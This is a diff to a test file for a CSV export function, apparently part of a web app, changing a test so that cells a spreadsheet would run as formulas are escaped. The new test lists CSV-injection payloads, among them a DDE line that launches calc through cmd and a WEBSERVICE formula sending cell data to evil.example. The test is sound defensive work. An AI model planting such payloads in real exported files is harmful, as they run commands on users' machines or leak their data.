@@ -14,12 +14,25 @@ it('quotes every cell, doubles quotes and keeps commas and line breaks inside th
   expect(csv).toBe('"Name","Note"\r\n"Riya ""RK"" Kapoor","Hello, world\nbye"\r\n"Sam",""\r\n');
 });
 
-it('defuses spreadsheet formulas but keeps phone numbers', () => {
-  const csv = toCsv(
-    [{ header: 'V', value: (row: string) => row }],
-    ['=HYPERLINK("x")', '+91 98765 43210', '-5', '@cmd'],
-  );
-  expect(csv.split('\r\n').slice(1, 5)).toEqual(['"\'=HYPERLINK(""x"")"', '"+91 98765 43210"', '"-5"', '"\'@cmd"']);
+it('defuses every cell a spreadsheet would run as a formula (OWASP), numbers with a sign too', () => {
+  const payloads = [
+    '=HYPERLINK("x")',
+    "-2+3+cmd|' /C calc'!A0",
+    '+1+WEBSERVICE("http://evil.example/?"&A1)',
+    '@cmd',
+    '\t=1+1',
+    '+91 98765 43210',
+  ];
+  const csv = toCsv([{ header: 'V', value: (row: string) => row }], [...payloads, 'Riya']);
+  expect(csv.split('\r\n').slice(1, -1)).toEqual([
+    '"\'=HYPERLINK(""x"")"',
+    "\"'-2+3+cmd|' /C calc'!A0\"",
+    '"\'+1+WEBSERVICE(""http://evil.example/?""&A1)"',
+    '"\'@cmd"',
+    '"\'\t=1+1"',
+    '"\'+91 98765 43210"',
+    '"Riya"',
+  ]);
 });
 
 it('names the file by prefix and ISO date', () => {
